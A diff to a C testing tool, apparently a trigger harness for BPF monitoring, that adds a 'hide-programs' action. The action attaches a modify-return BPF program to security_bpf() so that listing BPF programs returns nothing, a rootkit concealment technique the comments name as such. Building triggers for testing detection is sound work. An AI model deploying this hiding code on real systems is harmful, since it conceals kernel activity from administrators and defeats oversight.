@@ -3,10 +3,13 @@
  * them. */
 
 #include <errno.h>
+#include <linux/btf.h>
 #include <stdlib.h>
 #include <sys/resource.h>
 
+#include "kernel-btf.h"
 #include "trigger.h"
+#include "util.h"
 
 static int map_by_id(const struct arguments *a) {
         union bpf_attr attr = {.map_id = (uint32_t) atoi(argument(a, 0, "0"))};
@@ -56,9 +59,49 @@ static int prog_many(const struct arguments *a) {
         return 0;
 }
 
+/* What rootkits made of BPF do: a program that decides before the kernel does, and says to whoever
+ * asks for the next program that there is none. */
+static int hide_programs(const struct arguments *a) {
+        const struct bpf_insn insns[] = {
+                /* security_bpf(cmd, …) */
+                {.code = BPF_LDX | BPF_MEM | BPF_DW, .dst_reg = 1, .src_reg = 1},
+                {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0},
+                {.code = BPF_JMP | BPF_JNE | BPF_K,
+                 .dst_reg = 1,
+                 .imm = BPF_PROG_GET_NEXT_ID,
+                 .off = 1},
+                {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = -ENOENT},
+                {.code = BPF_JMP | BPF_EXIT},
+        };
+        union bpf_attr attr = {
+                .prog_type = BPF_PROG_TYPE_TRACING,
+                .expected_attach_type = BPF_MODIFY_RETURN,
+                .prog_name = "hider",
+        };
+        int id = kernel_type(BTF_KIND_FUNC, "security_bpf"), program;
+        long link;
+
+        if (id < 0)
+                return report_skip("hide-programs", "this kernel has no security_bpf()");
+        attr.attach_btf_id = (uint32_t) id;
+        program = load_program(&attr, insns, ELEMENTSOF(insns));
+        if (program < 0)
+                return program;
+        attr = (union bpf_attr){};
+        attr.raw_tracepoint.prog_fd = (uint32_t) program;
+        link = bpf_call(BPF_RAW_TRACEPOINT_OPEN, &attr, sizeof(attr));
+        if (link < 0)
+                return (int) link;
+        report_begin("hide-programs");
+        report_program(program);
+        report_end();
+        return 0;
+}
+
 const struct action inventory_actions[] = {
         {"map-by-id", "ID", map_by_id, "opens a map by its id"},
         {"prog-run-id", "ID [N]", prog_run_id, "runs a program of somebody else N times"},
+        {"hide-programs", "", hide_programs, "hides all programs from who lists them"},
         {"prog-many", "[N]", prog_many, "loads N programs"},
         {},
 };
